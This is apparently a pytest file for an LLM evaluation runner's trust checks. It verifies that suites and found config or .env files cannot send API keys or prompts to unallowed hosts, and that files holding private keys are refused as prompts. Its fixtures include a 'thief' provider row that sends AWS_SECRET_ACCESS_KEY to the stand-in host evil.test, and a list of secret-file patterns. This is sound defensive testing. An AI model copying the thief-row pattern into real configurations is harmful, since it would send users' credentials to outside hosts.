"""Trust: a suite, or a file found beside it, sends no key and no prompt to a host that the user has not allowed."""

import os
import pty
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from runner.api.run import run as run_suite
from runner.errors import CompareError
from runner.providers.base_url import is_on_this_machine
from runner.providers.environment import read_environment
from runner.providers.find_config_files import find_own_file
from tests.support.command import compare, own_environment, write_config, write_yaml
from tests.support.scripted_server import ScriptedServer, delta_event, event_stream, serve

SECRET = "wJalrXUtnFEMI/K7MDENG0bPxRfiCYzKEY"
STRANGER = 54321
EVIL = "http://evil.test/v1"
ANSWER = event_stream(delta_event("Hi"))


@pytest.fixture
def proxy() -> Iterator[ScriptedServer]:
    """Run a proxy that answers for every host, so that everything that is sent is among its requests."""
    with serve(lambda _: ANSWER) as server:
        yield server


def write_suite(folder: Path, **rows: object) -> Path:
    """Write a suite with its own provider rows, the first of which is its target."""
    content = {"version": 1, "name": "s", "providers": rows, "cases": [{"id": "one", "prompt": "Hi"}]}
    return write_yaml(folder / "s.yaml", content if rows else {k: v for k, v in content.items() if k != "providers"})


def thief(url: str = EVIL, variable: str = "AWS_SECRET_ACCESS_KEY") -> dict[str, object]:
    """Return a row that sends a variable to its own host."""
    return {"base_url": url, "api_key_env": variable, "models": ["m"]}


def variables(proxy: ScriptedServer, **more: str) -> dict[str, str]:
    """Return the environment of a user who has a secret, behind a proxy."""
    return {"HTTP_PROXY": f"http://127.0.0.1:{proxy.port}", "AWS_SECRET_ACCESS_KEY": SECRET, **more}


def test_a_suite_cannot_send_a_variable_to_its_own_host(tmp_path: Path, proxy: ScriptedServer) -> None:
    """The run is refused with exit code 2 and names file, line, variable, host and remedy; nothing is sent."""
    write_suite(tmp_path, thief=thief())
    done = compare(tmp_path, "run", "s.yaml", "-o", "out", variables=variables(proxy))
    assert done.returncode == 2
    assert f"{tmp_path}/s.yaml:6: thief would send the value of AWS_SECRET_ACCESS_KEY" in done.stderr
    assert "to evil.test, unencrypted, which you have not allowed" in " ".join(done.stderr.split())
    assert "--allow-host evil.test" in done.stderr
    assert "Nothing was sent" in done.stderr
    assert SECRET not in done.stderr
    assert proxy.requests == []
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("allowed", ["evil.test", "evil.test:80", "EVIL.test"])
def test_an_allowed_host_is_asked(tmp_path: Path, proxy: ScriptedServer, allowed: str) -> None:
    """--allow-host lets this run send there; another port or host does not count."""
    write_suite(tmp_path, thief=thief())
    other = compare(tmp_path, "run", "s.yaml", "--allow-host", "evil.test:81", variables=variables(proxy))
    assert other.returncode == 2
    done = compare(tmp_path, "run", "s.yaml", "--allow-host", allowed, "-o", "out", variables=variables(proxy))
    assert done.returncode == 0, done.stderr
    assert proxy.requests[0].headers["authorization"] == f"Bearer {SECRET}"


def test_allow_host_with_a_url_is_refused(tmp_path: Path, proxy: ScriptedServer) -> None:
    """--allow-host takes a host."""
    write_suite(tmp_path, thief=thief())
    done = compare(tmp_path, "run", "s.yaml", "--allow-host", EVIL, variables=variables(proxy))
    assert done.returncode == 2
    assert "is not a host" in done.stderr


def test_python_allows_a_host_by_a_keyword(
    tmp_path: Path, proxy: ScriptedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`allow_host` is the option of the Python functions; without it they raise."""
    suite = write_suite(tmp_path, thief=thief())
    for name, value in variables(proxy, HOME=str(tmp_path)).items():
        monkeypatch.setenv(name, value)
    with pytest.raises(CompareError, match=r"allow_host='evil\.test'"):
        run_suite(suite, progress=False)
    assert proxy.requests == []
    assert list(run_suite(suite, allow_host="evil.test", output=tmp_path / "out", progress=False)["outcome"]) == ["ok"]


ROWS: dict[str, dict[str, object]] = {
    "a known provider, moved": {"deepseek": {"base_url": EVIL, "models": ["m"]}},
    "a known host, another variable": {"x": thief("https://api.deepseek.com")},
    "a known host, without TLS": {"deepseek": {"base_url": "http://api.deepseek.com", "models": ["m"]}},
    "prompts alone": {"x": {"base_url": EVIL, "keyless": True, "models": ["m"]}},
    "a host like this machine's": {"x": thief("http://localhost.evil.test/v1")},
    "an address of all machines": {"x": thief("http://0.0.0.0/v1")},
    "a variable as the address": {
        "x": {"base_url_env": "SOME_URL", "api_key_env": "AWS_SECRET_ACCESS_KEY", "models": ["m"]}
    },
}


@pytest.mark.parametrize("rows", ROWS.values(), ids=ROWS.keys())
@pytest.mark.parametrize("place", ["suite", "compare.yaml"])
def test_every_new_pair_is_refused(tmp_path: Path, proxy: ScriptedServer, rows: dict[str, object], place: str) -> None:
    """A pair of variable and host that no trusted row has is refused, in a suite and in a found compare.yaml."""
    work = tmp_path / "work"
    work.mkdir()
    if place == "suite":
        write_suite(work, **rows)
    else:
        write_suite(work)
        write_yaml(tmp_path / "compare.yaml", {"providers": rows})
    given = variables(proxy, DEEPSEEK_API_KEY=SECRET, SOME_URL=EVIL, HTTPS_PROXY=f"http://127.0.0.1:{proxy.port}")
    done = compare(tmp_path, "run", "work/s.yaml", "-p", *rows, variables=given)
    assert done.returncode == 2, done.stderr
    assert "which you have not allowed" in done.stderr
    assert proxy.requests == []


@pytest.mark.parametrize("command", [("ask", "Hi"), ("snapshot", "s.yaml"), ("providers", "--models", "thief")])
def test_every_command_that_sends_refuses(tmp_path: Path, proxy: ScriptedServer, command: tuple[str, ...]) -> None:
    """`ask`, `snapshot` and `providers --models` refuse as `run` does; `doctor --ping` leaves the provider out."""
    write_suite(tmp_path)
    write_config(tmp_path, thief=thief())
    done = compare(tmp_path, *command, variables=variables(proxy))
    assert done.returncode == 2, done.stderr
    assert "thief would send the value of AWS_SECRET_ACCESS_KEY" in done.stderr
    assert "thief: not pinged" in compare(tmp_path, "doctor", "--ping", variables=variables(proxy)).stdout
    assert proxy.requests == []


def test_plan_names_the_host_that_a_run_would_ask_about(tmp_path: Path, proxy: ScriptedServer) -> None:
    """A plan sends nothing, so it needs no permission."""
    write_suite(tmp_path, thief=thief())
    done = compare(tmp_path, "plan", "s.yaml", variables=variables(proxy))
    assert done.returncode == 0, done.stderr
    assert "would send the value of AWS_SECRET_ACCESS_KEY, and the prompts, to evil.test" in done.stdout


def test_a_base_url_in_a_found_env_file_is_refused(tmp_path: Path, proxy: ScriptedServer) -> None:
    """DEEPSEEK_BASE_URL in a .env beside the suite redirects no key of the environment.

    The user's own variable does.
    """
    write_suite(tmp_path)
    name = "DEEPSEEK_API_BASE"
    (tmp_path / ".env").write_text(f"# mine\n{name}={EVIL}\n")
    done = compare(tmp_path, "run", "s.yaml", variables=variables(proxy, DEEPSEEK_API_KEY=SECRET))
    assert done.returncode == 2
    assert f"{tmp_path}/.env:2: deepseek would send the value of DEEPSEEK_API_KEY" in done.stderr
    assert proxy.requests == []
    own = compare(tmp_path, "run", "s.yaml", variables=variables(proxy, DEEPSEEK_API_KEY=SECRET, **{name: EVIL}))
    assert own.returncode == 0, own.stderr
    (tmp_path / ".env").write_text(f"{name}={EVIL}\nDEEPSEEK_API_KEY={SECRET}\n")
    both = compare(tmp_path, "run", "s.yaml", variables=variables(proxy))
    assert both.returncode == 0, "a key and an address of one file are its own affair"


def test_the_users_own_configuration_is_trusted(tmp_path: Path, proxy: ScriptedServer) -> None:
    """Rows in ~/.config/compare/compare.yaml need no permission; `allow_hosts` there allows hosts for suites."""
    own = tmp_path / ".config" / "compare"
    own.mkdir(parents=True)
    write_suite(tmp_path)
    write_config(own, gateway=thief())
    done = compare(tmp_path, "run", "s.yaml", "-p", "gateway", variables=variables(proxy))
    assert done.returncode == 0, done.stderr
    write_yaml(own / "compare.yaml", {"allow_hosts": ["evil.test"]})
    write_suite(tmp_path, thief=thief())
    assert compare(tmp_path, "run", "s.yaml", variables=variables(proxy)).returncode == 0
    write_yaml(tmp_path / "compare.yaml", {"allow_hosts": ["evil.test"]})
    refused = compare(tmp_path, "run", "s.yaml", variables=variables(proxy))
    assert refused.returncode == 2, "a found file allows nothing"
    assert "allow_hosts" in refused.stderr


def on_terminal(folder: Path, answer: str, *arguments: str, given: dict[str, str]) -> tuple[int, str]:
    """Run the command with a terminal as input and standard error; return the exit code and the output."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "runner", *arguments],
        cwd=folder, env={**own_environment(folder, given), "TERM": "dumb"},
        stdin=theirs, stderr=theirs, stdout=subprocess.DEVNULL,
    )  # fmt: skip
    os.close(theirs)
    os.write(ours, answer.encode())
    shown = b""
    while True:
        try:
            piece = os.read(ours, 4096)
        except OSError:  # the terminal is closed
            break
        if not piece:
            break
        shown += piece
    os.close(ours)
    return process.wait(60), shown.decode(errors="replace")


def test_a_terminal_asks_once_and_remembers_per_content(tmp_path: Path, proxy: ScriptedServer) -> None:
    """Yes is remembered for this file, variable and URL; no sends nothing; in CI there is no question."""
    write_suite(tmp_path, thief=thief())
    given = variables(proxy)
    code, shown = on_terminal(tmp_path, "n\n", "run", "s.yaml", given=given)
    assert (code, "unencrypted. Allow that from now on? [y/N]: " in shown, proxy.requests) == (2, True, [])
    code, shown = on_terminal(tmp_path, "y\n", "run", "s.yaml", given={**given, "CI": "true"})
    assert (code, "Allow that from now on?" in shown, proxy.requests) == (2, False, [])
    code, shown = on_terminal(tmp_path, "y\n", "run", "s.yaml", given=given)
    assert (code, len(proxy.requests)) == (0, 1), shown
    assert compare(tmp_path, "run", "s.yaml", variables=given).returncode == 0, "it is remembered"
    write_suite(tmp_path, thief=thief(EVIL + "/other"))
    assert compare(tmp_path, "run", "s.yaml", variables=given).returncode == 2, "the URL is another"
    assert len(proxy.requests) == 2
    answers = list((tmp_path / ".local/state/compare/allowed-hosts").iterdir())
    assert len(answers) == 1
    assert SECRET not in answers[0].read_text()


@pytest.fixture
def give_away(monkeypatch: pytest.MonkeyPatch) -> Callable[[Path], None]:
    """Return a function that changes the owner of a file."""

    def give(path: Path) -> None:
        if os.geteuid() != 0:
            pytest.skip("only root can give a file away")
        monkeypatch.delenv("SUDO_UID", raising=False)
        os.chown(path, STRANGER, -1)

    return give


@pytest.mark.parametrize("name", ["compare.yaml", ".env"])
def test_files_of_other_owners_above_are_not_read(
    tmp_path: Path, name: str, give_away: Callable[[Path], None], proxy: ScriptedServer
) -> None:
    """A compare.yaml or .env of another user in a parent folder is ignored, and a note says so."""
    work = tmp_path / "work"
    work.mkdir()
    write_suite(work)
    text = "providers: {deepseek: {base_url: 'http://evil.test'}}" if name == "compare.yaml" else "SIM=1\n"
    (tmp_path / name).write_text(text)
    give_away(tmp_path / name)
    done = compare(work, "run", "s.yaml", "-p", "sim", "-m", "quick", variables=variables(proxy))
    assert done.returncode == 0, done.stderr
    assert f"{tmp_path / name} is not read: it belongs to user {STRANGER}" in done.stderr
    link = work / name
    link.symlink_to(tmp_path / name)
    assert find_own_file(name, work)[0] is None, "a link to it does not make it the user's"


def test_a_file_beside_a_suite_may_have_the_suites_owner(tmp_path: Path, give_away: Callable[[Path], None]) -> None:
    """The owner of the suite could have written the row into it; the owner of a folder does not count."""
    suite, config = write_suite(tmp_path), write_yaml(tmp_path / "compare.yaml", {"version": 1})
    give_away(config)
    assert find_own_file("compare.yaml", suite)[0] is None
    give_away(suite)
    assert find_own_file("compare.yaml", suite)[0] == config
    assert find_own_file("compare.yaml", tmp_path)[0] is None


def test_variables_know_the_file_they_come_from(tmp_path: Path) -> None:
    """For a found .env the line is known; variables of the process and of a named file are the user's."""
    (tmp_path / ".env").write_text("A=1\nB=2\nC=3\nB=4\n")
    (tmp_path / "named").write_text("C=5\n")
    found = read_environment([tmp_path / "named"], tmp_path, {"A": "real"})
    assert [found.found_in(name) for name in "ABC"] == [None, tmp_path / ".env", None]
    assert (found["B"], found.line_of("B")) == ("4", 4)


@pytest.mark.parametrize(
    ("url", "is_here"),
    [
        ("http://127.0.0.1:8000/v1", True),
        ("http://localhost/v1", True),
        ("http://[::1]:1/v1", True),
        ("http://[::ffff:127.0.0.1]/v1", True),
        ("http://127.9.9.9/v1", True),
        ("http://127.0.0.1.evil.test/v1", False),
        ("http://evil.localhost/v1", False),
        ("http://0.0.0.0/v1", False),
        ("http://192.168.0.1/v1", False),
        ("http://2130706433/v1", False),
    ],
)
def test_loopback_is_this_machine_and_nothing_that_looks_like_it(url: str, is_here: bool) -> None:
    """A loopback address needs no permission, because nothing leaves the machine; similar names do."""
    assert is_on_this_machine(url) is is_here


# Prompts

KEY_FILES = {
    ".env": "DEEPSEEK_API_KEY=sk-0123456789\n",
    ".env.local": "A=1\n",
    "prod.env": "A=1\n",
    ".envrc": "export A=1\n",
    "id_ed25519": "whatever",
    ".ssh/config": "Host *\n",
    "server.PEM": "whatever",
    "notes.txt": "Here:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n",
    "found.txt": f"My key is {SECRET}, what is yours?",
}


@pytest.mark.parametrize("name", KEY_FILES)
@pytest.mark.parametrize("linked", [False, True], ids=["named", "linked"])
def test_a_file_of_secrets_is_no_prompt(tmp_path: Path, name: str, proxy: ScriptedServer, *, linked: bool) -> None:
    """.env files, private keys, and texts with a key that is set are refused as prompts, also through links."""
    file = tmp_path / name
    file.parent.mkdir(exist_ok=True)
    file.write_text(KEY_FILES[name])
    if linked:
        (tmp_path / "innocent.txt").symlink_to(file)
    case = {"id": "one", "prompt_file": "innocent.txt" if linked else name}
    write_yaml(tmp_path / "s.yaml", {"version": 1, "name": "s", "cases": [case]})
    done = compare(tmp_path, "run", "s.yaml", "-p", "sim", "-o", "out", variables=variables(proxy))
    assert done.returncode == 2, done.stderr
    assert "s.yaml:" in done.stderr
    assert "Nothing was sent" in done.stderr
    assert not (tmp_path / "out").exists()
    assert SECRET not in done.stderr


ROW_FILES = {
    "rows.csv": 'id,prompt\na,Hi\nb,"{pem}"\n',
    "rows.jsonl": '{{"id": "b", "prompt": "{pem}"}}\n',
    "messages.jsonl": '{{"messages": [{{"role": "user", "content": "Hi {pem}"}}]}}\n',
    "rows.json": '[{{"id": "b", "prompt": "Hi", "vars": {{"x": "{pem}"}}}}]',
    "rows.yaml": "- id: b\n  prompt: |\n    {pem}\n",
    "key.csv": "{pem}\nMIIEpAIBAAKCAQEA\n",
}


@pytest.mark.parametrize("name", ROW_FILES)
def test_a_file_of_rows_with_a_private_key_is_refused(tmp_path: Path, name: str) -> None:
    """For any format and place in a row, nothing is sent, and the row's line is named."""
    pem = "-----BEGIN RSA PRIVATE KEY-----"
    (tmp_path / name).write_text(ROW_FILES[name].format(pem=pem))
    write_yaml(tmp_path / "s.yaml", {"cases_from": name})
    done = compare(tmp_path, "run", "s.yaml", "-p", "sim", "-o", "out")
    assert done.returncode == 2, done.stderr
    assert re.search(rf"{name}:\d:1: this row holds a private key", done.stderr), done.stderr
    assert not (tmp_path / "out").exists()


def test_a_link_out_of_the_suites_folder_is_refused(tmp_path: Path) -> None:
    """A prompt file must be in the suite's folder after links are resolved."""
    work = tmp_path / "work"
    work.mkdir()
    (tmp_path / "diary.txt").write_text("Dear diary")
    (work / "prompt.txt").symlink_to(tmp_path / "diary.txt")
    write_yaml(work / "s.yaml", {"version": 1, "name": "s", "cases": [{"id": "one", "prompt_file": "prompt.txt"}]})
    done = compare(work, "run", "s.yaml", "-p", "sim")
    assert done.returncode == 2
    assert "lies outside the suite's folder" in done.stderr


def test_ordinary_words_in_variables_refuse_no_prompt(tmp_path: Path) -> None:
    """A password that is a word, such as postgres, occurs in many prompts."""
    (tmp_path / "prompt.txt").write_text("How do I tune postgres?")
    case = {"id": "one", "prompt_file": "prompt.txt"}
    write_yaml(tmp_path / "s.yaml", {"version": 1, "name": "s", "cases": [case]})
    done = compare(
        tmp_path, "run", "s.yaml", "-p", "sim", "-m", "quick", "-o", "out", variables={"DB_PASSWORD": "postgres"}
    )
    assert done.returncode == 0, done.stderr
